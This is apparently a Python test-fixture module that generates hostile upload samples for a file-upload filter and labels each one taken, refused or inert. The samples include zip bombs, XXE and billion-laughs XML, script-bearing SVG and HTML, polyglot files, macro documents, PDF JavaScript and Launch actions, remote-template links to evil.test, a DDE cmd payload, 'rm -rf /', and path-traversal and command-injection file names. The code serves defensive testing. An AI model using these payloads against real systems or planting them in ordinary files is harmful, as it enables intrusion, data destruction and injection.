"""A hundred files nobody should have to fear, made here by program, and what must become of each.

`taken`: comes back byte for byte under its own name. `refused`: a sentence, and nothing is left. `inert`: may be kept
or refused; if kept, it goes out again as a download that nothing runs.
"""

from __future__ import annotations

import codecs
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from tests.documents.hostile import LAUGHS, XXE, good, word
from tests.files.papers import DOC, JPEG, OLE, PDF, PNG, locked, zipped

MB = 1024 * 1024
SCRIPT = b"<html><script>document.title='ran'</script></html>"
MARKED_CONTENT = b"<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"
OUTSIDE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>'
)


@dataclass(frozen=True)
class Sample:
    name: str
    make: Callable[[], bytes]
    fate: str
    is_heavy: bool = False  # takes a second to make or to look at: not in every check


def packed(parts: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def lying(document: bytes, claimed: int = 10) -> bytes:
    """The same zip, whose list of parts says that each is ten bytes long unpacked."""
    content, place = bytearray(document), 0
    while (place := content.find(b"PK\x01\x02", place)) >= 0:
        content[place + 24 : place + 28] = claimed.to_bytes(4, "little")
        place += 4
    return bytes(content)


def nested(depth: int = 8) -> bytes:
    inner = packed({"a": bytes(MB)})
    for _layer in range(depth):
        inner = packed({f"{one}.zip": inner for one in range(8)})
    return zipped("docx", {"word/embeddings/a.zip": inner})


def png(width: int, height: int) -> bytes:
    return PNG[:16] + width.to_bytes(4, "big") + height.to_bytes(4, "big") + PNG[24:]


def jpeg(width: int, height: int) -> bytes:
    size = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(9) + b"\xff\xc0\x00\x11\x08" + size + b"\x03" + bytes(40)


def utf16(xml: bytes) -> bytes:
    return codecs.BOM_UTF16_LE + xml.decode().replace('<?xml version="1.0"?>', "").encode("utf-16-le")


def _parts(*names: str) -> Callable[[], bytes]:
    return lambda: zipped("docx", dict.fromkeys(names, b"<a/>"))


TAKEN = [
    Sample("关于“两会”建议的答复（正式）.docx", good, "taken"),
    Sample("答" * 80 + ".pdf", lambda: PDF, "taken"),
    Sample("\U00020bb7野家、㛃䶮.pdf", lambda: PDF, "taken"),
    Sample("re\u0301sume\u0301 附件.pdf", lambda: PDF, "taken"),
    Sample("v1.2.关于3.5公里道路.终稿.docx", good, "taken"),
    Sample("台账 2026年（上）.xlsx", lambda: zipped("xlsx"), "taken"),
    Sample("汇报—终稿.pptx", lambda: zipped("pptx"), "taken"),
    Sample("公文.ofd", lambda: zipped("ofd"), "taken"),
    Sample("旧文.doc", lambda: DOC, "taken"),
    Sample("旧表.xls", lambda: DOC, "taken"),
    Sample("公文.wps", lambda: DOC, "taken"),
    Sample("盖章件.PNG", lambda: PNG, "taken"),
    Sample("现场 照片.jpeg", lambda: JPEG + bytes(300_000), "taken"),
    Sample("说明.txt", lambda: "您好，代表：道路已经拓宽。".encode("gb18030"), "taken"),
    Sample("说明·二.txt", lambda: "您好\t代表\r\n".encode("utf-16"), "taken"),
    Sample("A&B 'quoted' #1 50%+~;.pdf", lambda: PDF, "taken"),
]
BOMBS = [
    Sample("平.docx", lambda: zipped("docx", {"word/media/1.png": bytes(101 * MB)}), "refused"),
    Sample("平.xlsx", lambda: zipped("xlsx", {"xl/media/1.png": bytes(101 * MB)}), "refused", True),
    Sample("谎.docx", lambda: lying(zipped("docx", {"word/media/1.png": bytes(101 * MB)})), "refused"),
    Sample("多.docx", lambda: zipped("docx", {f"word/media/{n}.png": b"" for n in range(600)}), "refused"),
    Sample("十万.docx", lambda: packed({f"{n}": b"" for n in range(20_000)}, zipfile.ZIP_STORED), "refused", True),
    Sample(
        "分.docx", lambda: zipped("docx", {f"word/media/{n}.png": bytes(8 * MB) for n in range(14)}), "refused", True
    ),
    Sample("层.docx", nested, "inert"),
    Sample(
        "文.docx", lambda: zipped("docx", {"word/document.xml": b"<a>" + b"x" * (101 * MB) + b"</a>"}), "refused", True
    ),
    Sample("深.docx", lambda: zipped("docx", {"word/document.xml": b"<a>" * 100_000}), "refused"),
    Sample("像素.png", lambda: png(60_000, 60_000), "refused"),
    Sample("像素.jpg", lambda: jpeg(65_000, 65_000), "refused"),
    Sample("负.png", lambda: png(2**32 - 1, 2**32 - 1), "refused"),
]
DECLARED = [
    Sample(f"{place}.{kind}", lambda kind=kind, part=part, xml=xml: zipped(kind, {part: xml}), "refused")  # type: ignore[misc]
    for place, (kind, part, xml) in enumerate(
        [
            ("docx", "word/document.xml", XXE),
            ("docx", "word/document.xml", LAUGHS),
            ("docx", "word/document.xml", utf16(XXE)),
            ("docx", "word/_rels/document.xml.rels", XXE),
            ("docx", "docProps/core.xml", utf16(LAUGHS)),
            ("docx", "customXml/item1.xml", XXE),
            ("xlsx", "xl/workbook.xml", XXE),
            ("xlsx", "xl/sharedStrings.xml", utf16(XXE)),
            ("pptx", "ppt/presentation.xml", LAUGHS),
            ("ofd", "OFD.xml", XXE),
            ("ofd", "Doc_0/Document.xml", utf16(LAUGHS)),
            ("docx", "word/DOCUMENT2.XML", XXE),
        ]
    )
]
PICTURES = [
    Sample("图.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "refused"),
    Sample("图二.svg", lambda: XXE.replace(b"<d>", b"<svg>").replace(b"</d>", b"</svg>"), "refused"),
    Sample("图.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "refused"),
    Sample("页.html", lambda: SCRIPT, "refused"),
    Sample("页.txt", lambda: SCRIPT, "refused"),
    Sample("页二.txt", lambda: b"\xef\xbb\xbf \r\n" + SCRIPT, "refused"),
    Sample("页三.txt", lambda: codecs.BOM_UTF16_BE + SCRIPT.decode().encode("utf-16-be"), "refused"),
    Sample("页.xhtml", lambda: b"<?xml version='1.0'?>" + SCRIPT, "refused"),
    Sample("壳.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "refused"),
    Sample("动.gif", lambda: b"GIF89a/*" + bytes(10) + b"*/=1;alert(1)//", "refused"),
    Sample("动.jpg", lambda: b"GIF89a=1;alert(1)", "refused"),
]
BOTH_KINDS = [
    Sample("图和页.jpg", lambda: JPEG + SCRIPT, "inert"),
    Sample("图和页.png", lambda: PNG + SCRIPT, "inert"),
    Sample("文和页.pdf", lambda: PDF + SCRIPT, "inert"),
    Sample("文和包.pdf", lambda: PDF + packed({"a.html": SCRIPT}), "inert"),
    Sample("包和文.docx", lambda: PDF + zipped("docx"), "refused"),
    Sample("文在后.pdf", lambda: SCRIPT + PDF, "refused"),
    Sample("程序.jpg", lambda: b"MZ\x90\x00" + JPEG, "refused"),
    Sample("图和归档.jpg", lambda: JPEG + packed({"META-INF/MANIFEST.MF": b"", "A.class": b"\xca\xfe"}), "inert"),
]
PROGRAMS = [
    Sample("宏.docm", lambda: zipped("docx", {"word/vbaProject.bin": OLE}), "refused"),
    Sample("宏.docx", lambda: zipped("docx", {"word/vbaProject.bin": OLE}), "refused"),
    Sample("宏.xlsm", lambda: zipped("xlsx", {"xl/vbaProject.bin": OLE}), "refused"),
    Sample("宏二.docx", lambda: zipped("docx", {"[Content_Types].xml": MARKED_CONTENT}), "refused"),
    Sample("宏三.docx", lambda: zipped("docx", {"[Content_Types].xml": utf16(MARKED_CONTENT)}), "refused"),
    Sample("四.xlsx", lambda: zipped("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}), "refused"),
    Sample("控件.docx", lambda: zipped("docx", {"word/activeX/activeX1.xml": b"<a/>"}), "refused"),
    Sample("宏.doc", lambda: OLE + bytes(80) + "_VBA_PROJECT".encode("utf-16-le"), "refused"),
    Sample("程序.doc", lambda: OLE + bytes(72) + bytes.fromhex("84100C0000000000C000000000000046"), "refused"),
    Sample("程序.exe", lambda: b"MZ\x90\x00" + bytes(60), "refused"),
    Sample("程序.pdf", lambda: b"MZ\x90\x00" + bytes(60), "refused"),
    Sample("内.docx", lambda: zipped("docx", {"word/embeddings/setup.exe": b"MZ"}), "refused"),
    Sample("捷径.lnk", lambda: b"L\x00\x00\x00\x01\x14\x02\x00", "refused"),
    Sample("包.jar", lambda: packed({"A.class": b"\xca\xfe\xba\xbe"}), "refused"),
    Sample("页.hta", lambda: SCRIPT, "refused"),
    Sample("测.com", lambda: b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", "refused"),
    Sample(
        "脚本.pdf", lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF", "inert"
    ),
    Sample("启动.pdf", lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n%%EOF", "inert"),
    Sample("外链.docx", lambda: zipped("docx", {"word/_rels/settings.xml.rels": OUTSIDE}), "inert"),
    Sample("外链.xlsx", lambda: zipped("xlsx", {"xl/externalLinks/_rels/a.xml.rels": OUTSIDE}), "inert"),
    Sample("域.docx", lambda: word('{ INCLUDETEXT "http://evil.test" }', "=cmd|' /C calc'!A0"), "inert"),
]
NAMES = [
    Sample(name, lambda: PDF, "inert")
    for name in (
        "../../etc/passwd.pdf", "/etc/cron.d/a.pdf", "..\\..\\a.pdf", "C:\\Windows\\a.pdf", "a\0.pdf", "CON.pdf",
        "nul.pdf", "con.pdf ...", ".htaccess.pdf", "gpj\u202efdp.pdf", "a\r\nX-Injected: 1.pdf", "x" * 300 + ".pdf",
        "....pdf", "%2e%2e%2f.pdf", "a.pdf;.exe.pdf", "'><script>alert(1)</script>.pdf", "\u200e\ufeff.pdf",
        "$(id)`id`.pdf", "\u2215etc\u2215a.pdf",
    )
]  # fmt: skip
ENTRIES = [
    Sample("上.docx", _parts("../../../etc/cron.d/a.xml"), "inert"),
    Sample("根.docx", _parts("/etc/passwd.xml"), "inert"),
    Sample("反.docx", _parts("..\\..\\a.xml"), "inert"),
    Sample("长.docx", _parts("a" * 60_000 + ".xml"), "inert"),
    Sample("双.docx", lambda: zipped("docx").replace(b"[Content_Types].xml", b"word/document.xml\0\0"), "refused"),
    Sample("锁.docx", lambda: locked(zipped("docx")), "refused"),
    Sample("残.docx", lambda: zipped("docx")[:-40], "refused"),
    Sample("坏.docx", lambda: zipped("docx").replace(b"\x00\x00\x00\x00", b"\xff\xff\xff\xff", 3), "refused"),
]
ENCODED = [
    Sample("空.pdf", lambda: b"", "refused"),
    Sample("空.docx", lambda: b"", "refused"),
    Sample("空.txt", lambda: b"", "refused"),
    Sample("零.txt", lambda: b"a\0b", "refused"),
    Sample("半.txt", lambda: codecs.BOM_UTF16_LE + b"\x3d", "refused"),
    Sample("表.csv", lambda: "日期,名称\n".encode("gbk"), "refused"),
    Sample("表二.csv", lambda: "日期,名称\n".encode("utf-16"), "refused"),
    Sample("乱.pdf", lambda: bytes(range(256)) * 8, "refused"),
    Sample("大.pdf", lambda: PDF + bytes(20 * MB + 1), "refused", True),
]
CORPUS = [*TAKEN, *BOMBS, *DECLARED, *PICTURES, *BOTH_KINDS, *PROGRAMS, *NAMES, *ENTRIES, *ENCODED]
REFUSED = [one for one in CORPUS if one.fate == "refused"]
INERT = [one for one in CORPUS if one.fate == "inert"]
